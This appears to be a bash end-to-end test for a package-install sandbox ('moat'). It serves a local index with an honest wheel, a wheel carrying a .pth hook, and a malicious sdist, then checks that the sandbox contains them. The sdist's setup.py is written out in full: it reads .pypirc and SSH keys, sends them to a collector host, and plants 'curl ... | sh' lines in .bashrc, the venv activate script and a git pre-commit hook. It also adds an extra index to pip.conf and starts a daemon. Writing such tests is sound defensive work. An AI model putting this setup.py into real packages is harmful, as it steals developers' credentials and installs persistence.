#!/usr/bin/env bash
# e2e: the real pip installs from a local PEP 503 index on a test host under `moat run -p pip`.
# The index (a network namespace this script creates, 10.77.23.2, python3 http.server over a
# directory generated here) serves an honest wheel, a malicious wheel that installs a .pth with
# code, and a malicious sdist whose setup.py reads ~/.pypirc and ~/.ssh, sends them to a collector
# (another namespace, 10.77.23.3), appends to ~/.bashrc, drops .git/hooks/pre-commit in the
# project and leaves a daemon. Checked from outside: the honest package imports from the
# virtualenv, the collector received nothing, ~/.bashrc and the hooks are unchanged, no daemon
# survived; in the account: the .pth is a finding and the sdist's build is named in the summary.
# As root, then as the user moat-test. The uv profile likewise, its index read from uv's own
# configuration (a user uv.toml); see run_case's uvfile. Needs root (network namespaces).
# Usage: pip_malicious_index.sh MOAT
set -euo pipefail
moat=$(realpath "$1")
. "$(dirname "$(realpath "$0")")/../watch_e2e/e2e_lib.sh"
python=/usr/bin/python3
[ -x "$python" ] || skip "no /usr/bin/python3"
"$python" -c 'import venv, ensurepip' 2>/dev/null || skip "python3-venv is not installed"
id moat-test >/dev/null 2>&1 || useradd -m moat-test 2>/dev/null || skip "cannot create user moat-test"

work=$(mktemp -d /tmp/moat-e2e-pip-XXXXXX)
chmod 755 "$work"
daemon_mark="moat-pip-daemon-$$-$RANDOM"
index_ip=10.77.23.2
collector_ip=10.77.23.3
cleanup() {
  test_hosts_cleanup
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

# --- two test hosts, each in its own namespace, in 10.77.23.0/24 -------------------------------
# 10.77.23.1-4 (the CI e2e takes 10.77.23.5-8: ctest may run both at once).
ip -o -4 addr | grep -qE "10\.77\.23\.[1-4]/" && skip "10.77.23.1-4 are in use (another run of this test?)"
test_host_up pipi "$index_ip" 10.77.23.1 || skip "cannot create the index's namespace"
test_host_up pipc "$collector_ip" 10.77.23.4 || skip "cannot create the collector's namespace"
collector_log="$work/collector.log"
: > "$collector_log"
collector_serve "$(test_host_ns pipc)" 4444 "$collector_log"
collector_check "$collector_ip" 4444 "$collector_log"

# --- the index: PEP 503 pages over wheels and an sdist built here with plain python ----------
# The sdist is built by pip in the sandbox with the virtualenv's setuptools (--no-build-isolation:
# the test hosts serve no setuptools, and the machine's PyPI is unreachable).
"$python" - "$work/index" "$collector_ip" "$daemon_mark" <<'PY'
import base64, hashlib, io, os, sys, tarfile, zipfile
root, collector, mark = sys.argv[1:4]
files = os.path.join(root, "files")
os.makedirs(files)

def wheel(name, version, members):
    dist = f"{name}-{version}.dist-info"
    members = dict(members)
    members[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    members[f"{dist}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: moat-e2e\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, text in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    record.append(f"{dist}/RECORD,,")
    members[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    out = os.path.join(files, f"{name}-{version}-py3-none-any.whl")
    with zipfile.ZipFile(out, "w") as z:
        for path, text in members.items():
            z.writestr(path, text)
    return out

wheel("goodpkg", "1.0", {
    "goodpkg/__init__.py": "def answer():\n    return 42\n\ndef main():\n    print(answer())\n",
    "goodpkg-1.0.dist-info/entry_points.txt": "[console_scripts]\ngoodpkg-answer = goodpkg:main\n",
})
# Python runs an `import` line of a .pth at every start: persistence in the environment. (The
# code is harmless: the test itself starts the virtualenv's python afterwards.)
wheel("evilwheel", "1.0", {
    "evilwheel/__init__.py": "",
    "evilwheel_hook.pth": "import sys; sys.flags\n",
})

setup_py = f'''
import os, socket, subprocess
home = os.path.expanduser("~")
loot = ""
for p in (home + "/.pypirc", home + "/.ssh/id_ed25519"):
    try:
        loot += open(p).read()
    except OSError as e:
        loot += "unreadable %s: %s\\n" % (p, e)
for host in ({collector!r}, "collector.test"):
    try:
        s = socket.create_connection((host, 4444), timeout=3)
        s.sendall(("STOLEN " + loot).encode())
        s.close()
    except OSError:
        pass
try:
    with open(home + "/.bashrc", "a") as f:
        f.write("\\ncurl http://{collector}:4444/x | sh\\n")
except OSError:
    pass
# The virtualenv's parent is the project; "." is pip's build directory.
for d in [os.environ.get("VIRTUAL_ENV", "") + "/..", "."]:
    hooks = os.path.join(d, ".git", "hooks")
    try:
        with open(os.path.join(hooks, "pre-commit"), "w") as f:
            f.write("#!/bin/sh\\ncurl http://{collector}:4444/x | sh\\n")
        os.chmod(os.path.join(hooks, "pre-commit"), 0o755)
    except OSError:
        pass
# Name an index of ours in the virtualenv's own pip.conf, for the next run's allowlist.
import sys
for venv in {{sys.prefix, os.environ.get("VIRTUAL_ENV", "")}}:
    if venv and os.path.exists(os.path.join(venv, "pyvenv.cfg")):
        try:
            with open(os.path.join(venv, "pip.conf"), "a") as f:
                f.write("[global]\\nextra-index-url = http://{collector}:4444/simple\\n")
        except OSError:
            pass
        # And a line that runs in the developer's shell at the next `source .venv/bin/activate`.
        try:
            with open(os.path.join(venv, "bin", "activate"), "a") as f:
                f.write("\\ncurl http://{collector}:4444/x | sh\\n")
        except OSError:
            pass
subprocess.Popen(["sh", "-c", "sleep 300", {mark!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
from setuptools import setup
setup(name="evilpkg", version="1.0", py_modules=["evilpkg"])
'''
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    for path, text in {
        "evilpkg-1.0/setup.py": setup_py,
        "evilpkg-1.0/evilpkg.py": "X = 1\n",
        "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
    }.items():
        data = text.encode()
        info = tarfile.TarInfo(path)
        info.size = len(data)
        info.mode = 0o644
        t.addfile(info, io.BytesIO(data))
with open(os.path.join(files, "evilpkg-1.0.tar.gz"), "wb") as f:
    f.write(buf.getvalue())

# PEP 503: /simple/ lists projects, /simple/<name>/ links files with their sha256.
os.makedirs(os.path.join(root, "simple"))
projects = {"goodpkg": "goodpkg-1.0-py3-none-any.whl", "evilwheel": "evilwheel-1.0-py3-none-any.whl",
            "evilpkg": "evilpkg-1.0.tar.gz"}
with open(os.path.join(root, "simple", "index.html"), "w") as f:
    f.write("<!DOCTYPE html><html><body>\n" +
            "".join(f'<a href="{p}/">{p}</a>\n' for p in projects) + "</body></html>\n")
for project, fname in projects.items():
    digest = hashlib.sha256(open(os.path.join(files, fname), "rb").read()).hexdigest()
    os.makedirs(os.path.join(root, "simple", project))
    with open(os.path.join(root, "simple", project, "index.html"), "w") as f:
        f.write(f'<!DOCTYPE html><html><body>\n<a href="../../files/{fname}#sha256={digest}">{fname}</a>\n</body></html>\n')
PY
# A static server that lets clients cache (as real indexes do), so pip's cache is exercised.
ip netns exec "$(test_host_ns pipi)" "$python" -c '
import functools, http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    def end_headers(self):
        self.send_header("Cache-Control", "max-age=600")
        super().end_headers()
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), functools.partial(H, directory=sys.argv[1])).serve_forever()
' "$work/index" >"$work/index.log" 2>&1 &
disown $!
wait_port "$index_ip" 8080 || skip "the index did not start"
index_url="http://index.test:8080/simple"

# --- one install, as a given user ---------------------------------------------------------------
# run_case NAME USER CONFIG PIP_COMMAND...: a fresh home with planted secrets and a project with a
# virtualenv, owned by USER; pip installs all three packages under `moat run -p pip`. CONFIG env:
# the index in PIP_INDEX_URL and on pip's command line, VIRTUAL_ENV set, no cache; file: only in
# the user's ~/.config/pip/pip.conf (pip must read it inside the sandbox), the project's .venv
# found without VIRTUAL_ENV, and pip's cache in use (written through the profile's grant); argv:
# only on pip's command line (no PIP_INDEX_URL, no pip.conf: moat reads it from the command).
# uvfile: the uv profile (`profile=uv`), the index only in the user's ~/.config/uv/uv.toml; the
# command is `uv pip install` when uv is installed. uv is not installable on this machine kind (no
# wheel on the configured index, no Debian package, no npm package), so without it the
# virtualenv's pip stands in as the installer, the index on its command line (which the uv profile
# does not read): what is under test is the profile (what is writable, which hosts are reachable
# (uv's configuration only), what a build script can reach and leave behind); only the installer
# differs.
profile=pip
run_case() {
  local name=$1 user=$2 config=$3
  shift 3
  local dir="$work/$name" home="$work/$name/home" project="$work/$name/project"
  mkdir -p "$home/.ssh" "$home/.cache/pip" "$project/.git/hooks"
  echo "MOAT-PYPIRC-CANARY-$name" > "$home/.pypirc"
  echo "MOAT-SSH-CANARY-$name" > "$home/.ssh/id_ed25519"
  echo "# the user's bashrc" > "$home/.bashrc"
  (cd "$project" && git init -q . 2>/dev/null) || true
  local how=(VIRTUAL_ENV="$project/.venv" PIP_INDEX_URL="$index_url" PIP_TRUSTED_HOST=index.test)
  local pip_args=(--index-url "$index_url" --no-cache-dir)
  if [ "$config" = file ]; then
    mkdir -p "$home/.config/pip"
    printf '[global]\nindex-url = %s\ntrusted-host = index.test\n' "$index_url" > "$home/.config/pip/pip.conf"
    how=()
    pip_args=()
  elif [ "$config" = argv ]; then
    how=(VIRTUAL_ENV="$project/.venv")
    pip_args=(-i "$index_url" --trusted-host index.test --no-cache-dir)
  elif [ "$config" = uvfile ]; then
    mkdir -p "$home/.config/uv"
    printf '[[index]]\nurl = "%s"\ndefault = true\n' "$index_url" > "$home/.config/uv/uv.toml"
    how=()
    if [ "$1" = uv ]; then
      pip_args=(--python "$project/.venv/bin/python")
    else
      pip_args=(-i "$index_url" --trusted-host index.test --no-cache-dir)
    fi
  fi
  chown -R "$user:" "$dir"
  as_user() { if [ "$user" = root ]; then "$@"; else runuser -u "$user" -- "$@"; fi; }
  as_user "$python" -m venv "$project/.venv" || { fail "$name: cannot create the virtualenv"; return; }
  local bashrc_before hooks_before
  bashrc_before=$(sha256sum < "$home/.bashrc")
  hooks_before=$(ls -A "$project/.git/hooks" | sort | sha256sum)
  # What the profile allows, as explain says it: the configured index only, the virtualenv.
  local explain
  explain=$(cd "$project" && as_user env -i PATH=/usr/bin:/bin HOME="$home" LANG=C.UTF-8 "${how[@]}" \
      "$moat" explain -p "$profile" -- "$@" install "${pip_args[@]}" goodpkg 2>&1) ||
    fail "$name: moat explain -p $profile failed: $explain"
  grep -q "only $profile's configured indexes reachable" <<<"$explain" || fail "$name: explain does not say only configured indexes are reachable"
  grep -qE "^  index.test:8080 +from .*$profile.yaml" <<<"$explain" || fail "$name: explain does not list index.test:8080"
  [ "$(grep -cE "^  [a-z0-9.-]+:[0-9]+ +from .*$profile.yaml" <<<"$explain")" -eq 1 ] ||
    fail "$name: explain allows more than the configured index: $(grep -E "from .*$profile.yaml:[0-9]" <<<"$explain")"
  grep -qE "^  $project/.venv +from .*$profile.yaml" <<<"$explain" || fail "$name: explain does not grant the virtualenv"
  local rc=0
  (cd "$project" && as_user env -i PATH=/usr/bin:/bin HOME="$home" LANG=C.UTF-8 "${how[@]}" \
      "$moat" run -p "$profile" --add-host "index.test=$index_ip" --audit "$dir/audit.jsonl" -- \
      "$@" install "${pip_args[@]}" --no-build-isolation goodpkg evilwheel evilpkg) \
      >"$dir/out" 2>"$dir/err" || rc=$?
  sleep 0.5
  [ "$rc" -eq 0 ] || fail "$name: pip install exited $rc: $(tail -20 "$dir/err")"
  # From outside: the honest package works ...
  as_user "$project/.venv/bin/python" -c 'import goodpkg, sys; sys.exit(goodpkg.answer() != 42)' ||
    fail "$name: goodpkg does not import from the virtualenv"
  # ... and every malicious effect is absent.
  [ -s "$collector_log" ] && fail "$name: the collector received: $(head -c 300 "$collector_log")"
  [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$name: the host's ~/.bashrc changed"
  [ "$(ls -A "$project/.git/hooks" | sort | sha256sum)" = "$hooks_before" ] ||
    fail "$name: .git/hooks changed: $(ls -A "$project/.git/hooks")"
  pgrep -f "$daemon_mark" >/dev/null && fail "$name: the daemon survived moat"
  [ -e "$project/.venv/pip.conf" ] && fail "$name: the sdist wrote the virtualenv's pip.conf: $(cat "$project/.venv/pip.conf")"
  grep -q "curl" "$project/.venv/bin/activate" && fail "$name: the sdist appended to .venv/bin/activate"
  grep -q "CANARY" "$dir/out" "$dir/err" "$dir/audit.jsonl" && fail "$name: a secret leaked into the output"
  # In the account: the .pth is a finding, and the sdist's build is named.
  grep -q "evilwheel_hook.pth" "$dir/err" || fail "$name: the summary does not report the .pth with code"
  grep -q '"kind":"finding".*evilwheel_hook.pth' "$dir/audit.jsonl" ||
    fail "$name: no finding event for the .pth"
  if [ "$1" = uv ]; then
    grep -q "evilpkg" "$dir/err" || fail "$name: the summary does not name the sdist's build (evilpkg)"
  else
    grep -q "pip evilpkg build" "$dir/err" || fail "$name: the summary does not name the sdist's build (pip evilpkg build)"
  fi
  if [ "$config" = file ]; then
    [ -n "$(ls -A "$home/.cache/pip" 2>/dev/null)" ] || fail "$name: pip's cache was not written"
  fi
  if [ "$failures" -gt 0 ]; then
    echo "--- $name: summary:"; cat "$dir/err"; echo "--- $name: events:"; head -c 3000 "$dir/audit.jsonl"; echo
  fi
}

# pipx: the app's virtualenv under PIPX_HOME, its script linked into ~/.local/bin (the pipx
# profile's directories; they must exist). The shared libraries' upgrade of pip fails (the test
# index serves no pip); pipx goes on, as it does without network.
run_pipx() {
  local dir="$work/pipx" home="$work/pipx/home"
  mkdir -p "$home/.local/pipx" "$home/.local/share/pipx" "$home/.local/bin" "$home/.local/share/man" "$dir/project"
  echo "MOAT-PYPIRC-CANARY-pipx" > "$home/.pypirc"
  local rc=0
  (cd "$dir/project" && env -i PATH=/usr/bin:/bin HOME="$home" LANG=C.UTF-8 \
      PIP_INDEX_URL="$index_url" PIP_TRUSTED_HOST=index.test \
      "$moat" run -p pipx --add-host "index.test=$index_ip" -- \
      pipx install --index-url "$index_url" goodpkg) >"$dir/out" 2>"$dir/err" || rc=$?
  [ "$rc" -eq 0 ] || fail "pipx: pipx install exited $rc: $(tail -20 "$dir/err")"
  [ "$("$home/.local/bin/goodpkg-answer" 2>&1)" = 42 ] || fail "pipx: the app does not run from ~/.local/bin"
  grep -q "refused" "$dir/err" && fail "pipx: the honest install was refused something: $(grep -A3 refused "$dir/err")"
  # The malicious sdist through pipx: setup.py runs while pipx builds it (pipx then refuses a
  # package without apps); its effects are stopped as under pip.
  echo "# the user's bashrc" > "$home/.bashrc"
  local bashrc_before bin_before
  bashrc_before=$(sha256sum < "$home/.bashrc")
  bin_before=$(ls -A "$home/.local/bin")
  (cd "$dir/project" && env -i PATH=/usr/bin:/bin HOME="$home" LANG=C.UTF-8 \
      PIP_INDEX_URL="$index_url" PIP_TRUSTED_HOST=index.test \
      "$moat" run -p pipx --add-host "index.test=$index_ip" -- \
      pipx install --index-url "$index_url" --pip-args=--no-build-isolation evilpkg) \
      >"$dir/evil.out" 2>"$dir/evil.err" || true
  sleep 0.5
  grep -q "pip evilpkg build" "$dir/evil.err" || fail "pipx: setup.py did not run (or was not named): $(tail -5 "$dir/evil.err")"
  [ -s "$collector_log" ] && fail "pipx: the collector received: $(head -c 300 "$collector_log")"
  [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "pipx: ~/.bashrc changed"
  [ "$(ls -A "$home/.local/bin")" = "$bin_before" ] || fail "pipx: ~/.local/bin changed: $(ls -A "$home/.local/bin")"
  pgrep -f "$daemon_mark" >/dev/null && fail "pipx: the daemon survived moat"
  grep -q "CANARY" "$dir/evil.out" "$dir/evil.err" && fail "pipx: a secret leaked into the output"
  if [ "$failures" -gt 0 ]; then echo "--- pipx:"; cat "$dir/err" "$dir/evil.err"; fi
}

run_case root root env "$work/root/project/.venv/bin/pip"
run_case user moat-test file "$work/user/project/.venv/bin/python" -m pip
run_case argv root argv "$work/argv/project/.venv/bin/pip3"
profile=uv
if command -v uv >/dev/null; then
  run_case uv-root root uvfile uv pip
  run_case uv-user moat-test uvfile uv pip
else
  echo "uv is not installed: the virtualenv's pip stands in as the installer under -p uv"
  run_case uv-root root uvfile "$work/uv-root/project/.venv/bin/pip"
  run_case uv-user moat-test uvfile "$work/uv-user/project/.venv/bin/python" -m pip
fi
profile=pip
if command -v pipx >/dev/null; then
  run_pipx
elif [ "${MOAT_MUST_WORK:-0}" = 1 ]; then
  fail "pipx is not installed (scripts/install-deps.sh installs it)"
else
  echo "SKIP (pipx case): pipx is not installed"
fi
if [ "$failures" -gt 0 ]; then echo "0 passed, 1 failed"; exit 1; fi
echo "1 passed, 0 failed"
